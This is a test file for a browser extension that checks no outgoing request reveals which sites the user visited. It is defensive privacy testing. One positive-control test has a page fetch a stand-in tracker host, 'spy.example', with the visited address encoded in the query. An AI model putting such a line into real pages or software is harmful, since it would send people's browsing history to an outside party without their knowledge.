import { expect, test } from 'vitest';
import { pageCases } from './support/cases.ts';
import type { SeenRequest } from './support/server.ts';
import { inChromium, useSession } from './support/session.ts';
import { until } from './support/until.ts';

/** True if any part of a request speaks of a host: its address, what it refers to, or what it carries. */
function speaksOf({ url, headers, body }: SeenRequest, host: string): boolean {
  const own = new URL(url).hostname;
  return [url, body, ...Object.values(headers)].some((part) =>
    decoded(part).replaceAll(own, '').includes(host),
  );
}

function decoded(text: string): string {
  try {
    return decodeURIComponent(text);
  } catch {
    // Not an encoded text: it says what it says.
    return text;
  }
}

inChromium('what leaves the browser', () => {
  const session = useSession();

  test('is what the pages themselves ask for: no request tells anybody where the person has been', async () => {
    const { server, extension } = session;
    for (const { url } of pageCases()) {
      const page = await extension.open(url);
      await extension.stateWhen(page, 'judged', () => true);
    }
    // By the time the last page is settled, those before it have been looked at too.
    await session.visit('shop-ordinary-ja');
    const hosts = [...new Set(pageCases().map(({ url }) => new URL(url).hostname))];
    expect(server.requests.length).toBeGreaterThan(hosts.length / 2);
    const telling = server.requests.filter((request) =>
      hosts.some((host) => new URL(request.url).hostname !== host && speaksOf(request, host)),
    );
    expect(telling.map(({ method, url }) => `${method} ${url}`)).toEqual([]);
  });

  test('is seen by this test: a page that tells is caught', async () => {
    const { server, extension } = session;
    const page = await extension.open('https://quiet.example/');
    await page.evaluate(() => {
      void fetch('https://spy.example/?at=https%3A%2F%2Fquiet.example', { mode: 'no-cors' });
    });
    await until('the request', () =>
      server.requests.some(
        (request) => new URL(request.url).hostname === 'spy.example' && speaksOf(request, 'quiet.example'),
      ),
    );
  });

  test('cannot be more: the extension may not connect to anything', async () => {
    const { server, extension } = session;
    const worker = await extension.worker();
    const outcome = await worker.evaluate(() =>
      fetch('https://spy.example/worker').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(outcome).toBe('refused');
    expect(server.requests.filter(({ url }) => url.endsWith('/worker'))).toEqual([]);
  });
});
